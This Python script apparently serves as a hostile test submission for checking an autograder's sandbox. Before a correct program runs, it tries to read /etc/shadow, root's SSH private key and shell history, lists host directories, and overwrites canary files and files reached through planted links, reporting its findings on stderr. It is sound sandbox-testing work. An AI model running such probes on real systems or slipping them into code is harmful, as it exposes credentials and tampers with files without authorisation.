# Prepended to a correct program: looks around the grading host as a curious student would, tells
# what it found on stderr, then does its job. Graded in a sandbox, it finds nothing to tell.
import os
import sys

found = []


def note(what):
    found.append(what)


for secret in ("/etc/shadow", "/root/.bash_history", "/root/.ssh/id_rsa", "/etc/ssl/private"):
    try:
        with open(secret, "rb") as f:
            note(secret + ": " + f.readline().decode(errors="replace").strip())
    except OSError:
        pass

for folder in ("/root", "/home", "/var/tmp", "/tmp", "/work", "/run", os.path.dirname(os.getcwd()),
               os.path.dirname(os.path.dirname(os.getcwd()))):
    try:
        note(folder + ": " + " ".join(sorted(os.listdir(folder))))
    except OSError:
        pass

# Files the tests plant next to the hand-in (canary*): read them, then try to change them.
for top in ("/tmp", "/root", "/var/tmp"):
    for root, dirs, files in os.walk(top):
        if root.count(os.sep) > 6:
            dirs[:] = []
        for name in files:
            if name.startswith("canary"):
                path = os.path.join(root, name)
                try:
                    with open(path) as f:
                        note(path + ": " + f.read().strip())
                    with open(path, "w") as f:
                        f.write("changed by a hand-in\n")
                except OSError:
                    pass

for target in ("/tmp", "/root", "/var/tmp", os.path.dirname(os.getcwd())):
    try:
        with open(os.path.join(target, "lab3-hostile-was-here"), "w") as f:
            f.write("written by a hand-in\n")
    except OSError:
        pass

# Links planted in the hand-in, to a host file (symlink) or the same inode (hard link).
for planted in ("planted-symlink", "planted-hardlink"):
    try:
        with open(planted) as f:
            note(planted + ": " + f.read().strip())
        with open(planted, "w") as f:
            f.write("changed through a planted link\n")
    except OSError:
        pass

for line in found:
    print("found " + line, file=sys.stderr)
